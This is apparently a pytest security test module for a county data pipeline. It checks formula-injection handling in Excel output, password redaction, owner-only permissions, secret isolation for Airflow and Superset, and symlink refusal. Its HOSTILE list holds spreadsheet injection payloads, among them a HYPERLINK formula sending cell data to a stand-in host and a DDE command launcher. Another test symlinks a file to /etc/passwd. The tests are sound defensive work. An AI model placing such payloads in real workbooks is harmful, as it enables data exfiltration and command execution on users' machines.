"""Security review findings (#13) that pure functions and files can show."""

from __future__ import annotations

import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from kcbx.orchestration.tasks import PipelineInputError, check_landing
from kcbx.outputs import ledgers
from kcbx.warehouse import redact

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://example.invalid/?d="&C3,"x")', "=cmd|' /C calc'!A0", "+1", "-1+2", "@SUM(A1)", "\t=1"]


def test_workbook_cells_from_data_are_text_never_formulas(tmp_path):
    path = tmp_path / "t.xlsx"
    ledgers.write_workbook(path, "台账", "2025-2026-1", ["序号", "姓名"], {"城关镇": [[v] for v in HOSTILE]})
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(path)  # not data_only: a formula would show as data_type 'f'
    cells = [row[1] for row in book.active.iter_rows(min_row=3)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)  # stays text when a clerk edits the cell


def test_sheet_titles_are_made_safe():
    assert ledgers.safe_sheet_title("a/b:c*d?[e]" + "镇" * 40) == ("a_b_c_d__e_" + "镇" * 40)[:31]


def test_redact_hides_passwords_in_urls_queries_and_dsns():
    assert "s3cret" not in redact("postgresql://kcbx:s3cret@db:5432/kcbx")
    assert "s3cret" not in redact("postgresql://db/kcbx?user=kcbx&password=s3cret&sslmode=require")
    assert "sslmode=require" in redact("postgresql://db/kcbx?password=s3cret&sslmode=require")
    assert "s3cret" not in redact("host=db user=kcbx password=s3cret dbname=kcbx")
    assert "s3 cret" not in redact("host=db password='s3 cret' dbname=kcbx")
    assert redact("postgresql://kcbx@db/kcbx") == "postgresql://kcbx@db/kcbx"


# Passwords as people type them into a URL, unescaped (#26): urlsplit and libpq cut these short.
AWKWARD = ["ab/cd", "a#b", "a?b", "p@ss", "a@b/c", "x:y", "5432?b", "a/b?c#d@e", "/#?@:", "ab%2Fcd"]


@pytest.mark.parametrize("password", AWKWARD)
def test_redact_hides_a_url_password_with_slash_hash_question_mark_or_at(password):
    for url in (
        f"postgresql://kcbx:{password}@db/kcbx",
        f"postgresql://kcbx:{password}@db:5432/kcbx?sslmode=require",
        f"postgres://kcbx:{password}@[::1]:5432,db2:5433/kcbx?application_name=kcbx",
    ):
        shown = redact(url)
        assert password not in shown, (url, shown)
        assert shown.startswith(url.split("://")[0] + "://kcbx:***@") and shown.endswith(url.rsplit("@", 1)[1])


def test_redact_keeps_what_is_not_a_password():
    assert redact("postgresql://kcbx:ab/cd@db/kcbx") == "postgresql://kcbx:***@db/kcbx"  # was left unchanged
    # an '@' in the query is the query's, not the end of a password
    assert redact("postgresql://kcbx:pw@db/kcbx?application_name=me@host") == (
        "postgresql://kcbx:***@db/kcbx?application_name=me@host"
    )
    assert redact("postgresql://db/kcbx?user=a@b") == "postgresql://db/kcbx?user=a@b"
    assert redact("postgresql://postgres:@/kcbx?host=/tmp/pg") == "postgresql://postgres:***@/kcbx?host=/tmp/pg"
    shown = redact("postgresql://db/kcbx?user=kcbx&password=s3/c#r?t&sslmode=require")
    assert "s3/c" not in shown and "r?t" not in shown and shown.endswith("password=***&sslmode=require")


@pytest.mark.parametrize(
    "dsn",
    [
        "host=db user=kcbx password='s3 cret' dbname=kcbx",
        r"host=db password='it\'s a/b#c' dbname=kcbx",
        "password = 'x y'  host=db port=5432",
        r"host=db password=a\ b/c?d dbname=kcbx",
        "host=db dbname=kcbx password='zq@ss kv9='",
    ],
)
def test_redact_hides_quoted_and_escaped_dsn_passwords_as_libpq_reads_them(dsn):
    from psycopg.conninfo import conninfo_to_dict

    given = conninfo_to_dict(dsn)
    shown = redact(dsn)
    assert given["password"] not in shown
    assert not [part for part in re.split(r"[\s/#?@=']", given["password"]) if len(part) > 2 and part in shown]
    assert conninfo_to_dict(shown) == {**given, "password": "***"}  # the rest as it was


def test_serve_hands_no_service_the_set_up_login(tmp_path, monkeypatch):
    """#26: `make serve` ran every Airflow process with the superuser's URL; now the set-up
    runs first, in the command itself, and the services get the warehouse's address."""
    import json
    import subprocess

    from kcbx import settings as settings_module
    from kcbx.orchestration import processes, services
    from kcbx.warehouse import database_url, schema, stage_url

    admin = "postgresql://postgres:adm1n-s3cret@db:5432/kcbx?sslmode=require"
    monkeypatch.setenv("KCBX_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("KCBX_ADMIN_DATABASE_URL", admin)
    monkeypatch.setenv("KCBX_DATABASE_URL", "postgresql://kcbx:owner-s3cret@db:5432/kcbx?sslmode=require")
    monkeypatch.setenv("PGPASSWORD", "libpq-s3cret")
    monkeypatch.setenv("KCBX_LOADER_PASSWORD", "loader-pw")
    monkeypatch.setenv("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN", "postgresql+psycopg2://airflow@/airflow")
    events: list = []

    def setup(settings, force=False):
        events.append(("setup", settings.admin_database_url))
        return True

    def run(command, env=None, input=None, **kwargs):
        events.append(("run", command, env, input))
        return subprocess.CompletedProcess(command, 0, "", "")

    def spawn(command, env, pid_file, log_file):
        events.append(("spawn", command, env, None))
        return 1

    monkeypatch.setattr(schema, "ensure_setup", setup)
    monkeypatch.setattr(services.subprocess, "run", run)
    monkeypatch.setattr(processes, "spawn", spawn)
    monkeypatch.setattr(processes, "alive", lambda pid_file: False)
    monkeypatch.setattr(processes, "wait_http", lambda *a, **k: None)
    svc = services.start(settings_module.load(), progress=lambda _: None)

    assert events[0] == ("setup", admin)  # the one-time set-up, as the set-up login, before anything starts
    started = [e for e in events if e[0] == "spawn"]
    assert sorted(e[1][-1] for e in started) == sorted(services.SERVICES)
    password = json.loads(svc.passwords_file.read_text())[services.ADMIN]
    for _, command, env, _ in events[1:]:
        assert "KCBX_ADMIN_DATABASE_URL" not in env and "KCBX_DATABASE_URL" not in env and "PGPASSWORD" not in env
        for secret in ("adm1n-s3cret", "owner-s3cret", "libpq-s3cret"):
            assert not [k for k, v in env.items() if secret in v], secret
        assert password not in " ".join(command)  # the admin's password never on a command line
        assert env["AIRFLOW__CORE__AUTH_MANAGER"].endswith("fab_auth_manager.FabAuthManager")
        assert not [k for k in env if "SIMPLE_AUTH_MANAGER" in k]
        assert env["AIRFLOW__LOGGING__FILE_TASK_HANDLER_NEW_FOLDER_PERMISSIONS"] == "0o700"
        assert env["AIRFLOW__LOGGING__FILE_TASK_HANDLER_NEW_FILE_PERMISSIONS"] == "0o600"
        assert env["AIRFLOW_CONN_KCBX_WAREHOUSE"] == "postgresql://db:5432/kcbx?sslmode=require"  # no login
    [create] = [e for e in events if e[0] == "run" and "create-admin" in e[1]]
    assert create[3] == password  # on stdin
    # What a task makes of that environment: its stage's login, and no login for the set-up.
    for name in list(os.environ):
        monkeypatch.delenv(name)
    for name, value in started[0][2].items():
        monkeypatch.setenv(name, value)
    in_task = settings_module.load()
    assert in_task.admin_database_url is None and "@" not in database_url(in_task)
    assert stage_url(in_task, "loader") == "postgresql://kcbx_loader:loader-pw@db:5432/kcbx?sslmode=require"


def test_serve_home_and_admin_password_are_owner_only_from_their_creation(tmp_path, monkeypatch):
    from kcbx.orchestration import services

    svc = services.Services(tmp_path / "home" / "airflow-server", 8080)
    # A chmod after the write would leave a moment of 0755/0644; without chmod it would stay so.
    monkeypatch.setattr(Path, "chmod", lambda *a, **k: None)
    previous = os.umask(0o022)
    try:
        services._owner_only_home(svc.home)
        password = services.admin_password(svc)
    finally:
        os.umask(previous)
    assert svc.home.stat().st_mode & 0o777 == 0o700
    assert svc.passwords_file.stat().st_mode & 0o777 == 0o600
    assert len(password) >= 24 and services.admin_password(svc) == password


def test_services_and_their_logs_start_owner_only(tmp_path):
    from kcbx.orchestration import processes

    log = tmp_path / "svc.log"
    previous = os.umask(0o022)
    try:
        pid = processes.spawn(["sh", "-c", f"touch {tmp_path}/made; mkdir {tmp_path}/folder"], {}, tmp_path / "p", log)
    finally:
        os.umask(previous)
    os.waitpid(pid, 0)
    assert log.stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "made").stat().st_mode & 0o777 == 0o600  # what a service writes (umask 077)
    assert (tmp_path / "folder").stat().st_mode & 0o777 == 0o700


def test_make_serve_writes_a_demo_county_only_when_asked(tmp_path):
    import shutil
    import subprocess

    if not shutil.which("make"):
        pytest.skip("missing machine feature: make")

    def serve(*extra: str) -> str:
        done = subprocess.run(["make", "-n", "serve", *extra], cwd=ROOT, capture_output=True, text=True, check=True)
        return next(line for line in done.stdout.splitlines() if "kcbx serve" in line)

    assert "--demo" not in serve() and "--demo" not in serve("DEMO=0")
    assert serve("DEMO=1").endswith("kcbx serve --demo")


def _superset_config(monkeypatch, behind_tls: str | None) -> dict:
    import runpy

    monkeypatch.setenv("SUPERSET_SECRET_KEY", "x" * 32)
    monkeypatch.setenv("KCBX_BI_METADATA_URL", "sqlite:////tmp/superset.db")
    if behind_tls is None:
        monkeypatch.delenv("KCBX_BI_BEHIND_TLS", raising=False)
    else:
        monkeypatch.setenv("KCBX_BI_BEHIND_TLS", behind_tls)
    return runpy.run_path(str(ROOT / "bi" / "superset_config.py"))


@pytest.mark.parametrize(("behind_tls", "secure"), [(None, False), ("false", False), ("true", True), ("1", True)])
def test_superset_sends_security_headers_and_secure_cookies_behind_tls(monkeypatch, behind_tls, secure):
    config = _superset_config(monkeypatch, behind_tls)
    talisman = config["TALISMAN_CONFIG"]
    assert config["TALISMAN_ENABLED"] is True and config["TALISMAN_DEV_CONFIG"] == talisman
    csp = talisman["content_security_policy"]
    assert csp["default-src"] == ["'self'"] and csp["object-src"] == "'none'" and csp["frame-ancestors"] == ["'self'"]
    assert csp["script-src"] == ["'self'", "'strict-dynamic'"] and talisman["content_security_policy_nonce_in"]
    assert not [v for values in csp.values() for v in ([values] if isinstance(values, str) else values) if "://" in v]
    assert talisman["frame_options"] == "SAMEORIGIN" and talisman["force_https"] is False
    assert config["SESSION_COOKIE_HTTPONLY"] is True and config["SESSION_COOKIE_SAMESITE"] == "Lax"
    # Secure cookies, HSTS and trusted X-Forwarded-* only behind the TLS proxy: over plain
    # http on 127.0.0.1 a Secure cookie would be dropped and nobody could log in.
    assert config["SESSION_COOKIE_SECURE"] is secure and talisman["session_cookie_secure"] is secure
    assert talisman["strict_transport_security"] is secure and config["ENABLE_PROXY_FIX"] is secure
    assert config["PREVENT_UNSAFE_DB_CONNECTIONS"] is True


def test_superset_connections_log_in_as_bi_accounts_only(monkeypatch):
    from sqlalchemy.engine import make_url

    mutate = _superset_config(monkeypatch, None)["DB_CONNECTION_MUTATOR"]
    for ok in ("kcbx_bi_bureau:pw@/kcbx?host=/tmp/pg", "kcbx_town_411082100000:pw@warehouse:5432/kcbx"):
        uri = make_url(f"postgresql+psycopg2://{ok}")
        assert mutate(uri, {"connect_args": {}}, "county", None, None) == (uri, {"connect_args": {}})
    refused = [
        ("postgres:@/kcbx?host=/tmp/pg", {}),  # the embedded server's superuser (trust authentication)
        ("@/kcbx?host=/tmp/pg", {}),  # no login: the server's default user
        ("kcbx:pw@warehouse/kcbx", {}),
        ("kcbx_bi_bureau:pw@/kcbx?host=/tmp/pg&user=postgres", {}),
        ("kcbx_bi_bureau:pw@/kcbx?host=/tmp/pg", {"connect_args": {"user": "postgres"}}),
        ("kcbx_bi_bureau:pw@/kcbx?service=admin", {}),
    ]
    for uri, params in refused:
        with pytest.raises(ValueError, match="BI account"):
            mutate(make_url(f"postgresql+psycopg2://{uri}"), params, "admin", None, None)


def test_a_countys_and_a_regions_superset_log_in_to_their_own_databases_only(monkeypatch):
    """Where a county's warehouse and the region's hub trust local logins on one machine, a
    region's Superset may not connect as a county's BI account, nor a county's as the hub's."""
    from sqlalchemy.engine import make_url

    county_login = make_url("postgresql+psycopg2://kcbx_bi_bureau:pw@/kcbx?host=/tmp/pg")
    hub_login = make_url("postgresql+psycopg2://kcbx_county_411082:pw@/kcbx_hub?host=/tmp/hub")
    monkeypatch.setenv("KCBX_BI_KIND", "region")
    region = _superset_config(monkeypatch, None)["DB_CONNECTION_MUTATOR"]
    assert region(hub_login, {}, "region", None, None) == (hub_login, {})
    with pytest.raises(ValueError, match="BI account"):
        region(county_login, {}, "admin", None, None)
    monkeypatch.setenv("KCBX_BI_KIND", "county")
    county = _superset_config(monkeypatch, None)["DB_CONNECTION_MUTATOR"]
    with pytest.raises(ValueError, match="BI account"):
        county(hub_login, {}, "admin", None, None)


def test_superset_inherits_no_kcbx_postgres_airflow_or_region_variable(tmp_path, monkeypatch):
    """Superset gets an allow-list of the environment: not the identity key, not a county's
    URL or key under the name region.yml gives it, not a PostgreSQL or Airflow secret; a
    region's Superset keeps its own metadata and secrets, never the county's KCBX_BI_*."""
    from kcbx.orchestration import bi
    from kcbx.region.run import RegionPaths

    for name, value in {
        "KCBX_PII_KEY": "k" * 32, "KCBX_REGION_KEY": "r" * 32, "CHANGGE_PII_KEY": "c" * 32,
        "HUB_SETUP_URL": "postgresql://postgres:pw@hub/kcbx_hub", "PGPASSWORD": "pw",
        "AIRFLOW__CELERY__BROKER_URL": "redis://:pw@x", "KCBX_BI_BEHIND_TLS": "true",
        "KCBX_BI_METADATA_URL": "postgresql://superset:pw@db/superset", "KCBX_BI_SECRETS_DIR": str(tmp_path / "county"),
        "KCBX_BI_ACCOUNTS_FILE": str(tmp_path / "accounts.json"),
    }.items():  # fmt: skip
        monkeypatch.setenv(name, value)
    paths = RegionPaths(tmp_path / "region", tmp_path / "reports", tmp_path / "counties")
    srv = bi.region_server(paths)
    env = bi.environment(srv)
    given = {k for k in env if not k.startswith("LC_")}
    assert given <= set(bi.INHERITED) | {"SUPERSET_CONFIG_PATH", "SUPERSET_HOME", "SUPERSET_SECRET_KEY",
                                         "KCBX_BI_METADATA_URL", "KCBX_BI_KIND", "PYTHONPATH"}  # fmt: skip
    assert env["KCBX_BI_KIND"] == "region" and env["KCBX_BI_BEHIND_TLS"] == "true"
    assert env["KCBX_BI_METADATA_URL"] == f"sqlite:///{tmp_path / 'region' / 'bi' / 'superset.db'}"
    assert (tmp_path / "region" / "bi" / "secrets" / "superset_secret_key").exists()
    assert not (tmp_path / "county").exists()


def test_superset_admin_password_never_on_a_command_line(tmp_path, monkeypatch):
    import subprocess

    from kcbx.orchestration import bi

    calls = []

    def run(command, env=None, input=None, **kwargs):
        calls.append((command, input))
        return subprocess.CompletedProcess(command, 0, "", "")

    monkeypatch.delenv("KCBX_BI_SECRETS_DIR", raising=False)
    monkeypatch.setenv("KCBX_ADMIN_DATABASE_URL", "postgresql://postgres:adm1n-s3cret@db/kcbx")
    monkeypatch.setattr(bi.subprocess, "run", run)
    srv = bi.Server(tmp_path / "bi", 8088)
    bi.initialise(srv, progress=lambda _: None)
    password = srv.secret("user_admin")
    assert calls and not [command for command, _ in calls if any(password in part for part in command)]
    assert [given for _, given in calls if given] == [password]  # on stdin
    assert "KCBX_ADMIN_DATABASE_URL" not in bi.environment(srv)  # Superset never gets the set-up login


def test_bi_accounts_files_are_ignored_by_git():
    import subprocess

    for name in ("bi-accounts.json", "accounts.json", "deploy/bi-accounts.json"):
        assert subprocess.run(["git", "check-ignore", "-q", name], cwd=ROOT).returncode == 0, name


def test_generated_pii_key_is_owner_only_from_the_start(tmp_path, monkeypatch):
    from kcbx import settings

    monkeypatch.delenv("KCBX_PII_KEY", raising=False)
    monkeypatch.setenv("KCBX_HOME", str(tmp_path / "home"))
    # A chmod after the write would leave a moment of 0644; without chmod it would stay so.
    monkeypatch.setattr(Path, "chmod", lambda *a, **k: None)
    previous = os.umask(0o022)
    try:
        key = settings.load().pii_key()
    finally:
        os.umask(previous)
    path = tmp_path / "home" / "pii_key"
    assert len(key) >= 32 and path.stat().st_mode & 0o777 == 0o600
    assert settings.load().pii_key() == key


def test_landing_must_be_under_the_root_without_symlinks(tmp_path):
    root = tmp_path / "landing"
    (root / "2025-2026-1" / "huji").mkdir(parents=True)
    assert check_landing(str(root), "2025-2026-1", root.resolve()) == root / "2025-2026-1"
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "2025-2026-1").mkdir(parents=True)
    with pytest.raises(PipelineInputError, match="KCBX_LANDING_ROOT"):
        check_landing(str(elsewhere), "2025-2026-1", root.resolve())
    with pytest.raises(PipelineInputError, match="KCBX_LANDING_ROOT"):
        check_landing(str(root / ".." / "elsewhere"), "2025-2026-1", root.resolve())
    (root / "2025-2026-1" / "huji" / "passwd.csv").symlink_to("/etc/passwd")
    with pytest.raises(PipelineInputError, match="符号链接"):
        check_landing(str(root), "2025-2026-1", root.resolve())


def test_secrets_and_data_stay_out_of_git_and_the_image():
    ignored = (ROOT / ".gitignore").read_text().split()
    assert ".env" in ignored and "secrets/" in ignored
    docker = (ROOT / ".dockerignore").read_text().split()
    for entry in (".env", "secrets/", ".kcbx/", "landing/", "reports/", ".venv/"):
        assert entry in docker, entry


def test_make_install_upgrades_pip_and_setuptools_before_installing():
    install = (ROOT / "Makefile").read_text().split("$(STAMP): pyproject.toml constraints.txt", 1)[1]
    upgrade = install.index("pip install --quiet --disable-pip-version-check -c constraints.txt pip setuptools")
    assert upgrade < install.index("-e '.[dev]'")
    pins = dict(line.split("==") for line in (ROOT / "constraints.txt").read_text().split() if "==" in line)
    assert int(pins["pip"].split(".")[0]) >= 25 and int(pins["setuptools"].split(".")[0]) >= 78


def test_openpyxl_parses_workbooks_with_defusedxml():
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML


def test_no_tracked_file_holds_a_default_secret():
    import subprocess

    files = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True).stdout.split()
    pattern = re.compile(
        "change" + r"-me|password[=:] *['\"]?(kcbx|airflow|admin|postgres|superset|metabase)['\"]?\b"
        r"|\$\{[A-Z_]*(PASSWORD|SECRET|KEY)[A-Z_]*:-",
        re.IGNORECASE,
    )
    offenders = [
        name
        for name in files
        if not name.endswith(".md")
        and (ROOT / name).is_file()
        and pattern.search((ROOT / name).read_text(errors="ignore"))
    ]
    assert offenders == [] or offenders == ["tests/unit/test_security_units.py"], offenders


def test_the_services_get_the_warehouses_address_never_a_login_or_secret():
    """`make serve` hands the services the set-up login's address: an allow-list of
    connection settings, so sslpassword, passfile, options, service and the client
    certificate (the set-up login's identity) stay behind."""
    from kcbx.orchestration.services import ADDRESS_KEYS, warehouse_address

    admin = (
        "postgresql://postgres:adm1n-s3cret@db:5432/kcbx?sslmode=verify-full&sslrootcert=/etc/kcbx/ca.pem"
        "&sslpassword=key-s3cret&passfile=/root/.pgpass&options=-c%20role%3Dpostgres&service=kcbx-admin"
        "&sslcert=/root/admin.crt&sslkey=/root/admin.key&krbsrvname=postgres&requirepeer=postgres"
        "&connect_timeout=10&application_name=kcbx&target_session_attrs=read-write&keepalives_idle=30"
    )
    address = warehouse_address(admin)
    assert address == (
        "postgresql://db:5432/kcbx?sslmode=verify-full&sslrootcert=/etc/kcbx/ca.pem&connect_timeout=10"
        "&application_name=kcbx&target_session_attrs=read-write&keepalives_idle=30"
    )
    for kept_out in ("s3cret", "pgpass", "options", "role", "service", "admin.", "krbsrvname", "requirepeer"):
        assert kept_out not in address, kept_out
    dsn = "host=/run/postgresql port=5433 dbname=kcbx user=kcbx password=s3cret passfile=/p sslpassword=x"
    assert warehouse_address(dsn) == "postgresql:///kcbx?host=/run/postgresql&port=5433"
    assert not {"user", "password", "passfile", "sslpassword", "service", "options", "sslcert", "sslkey"} & set(
        ADDRESS_KEYS
    )
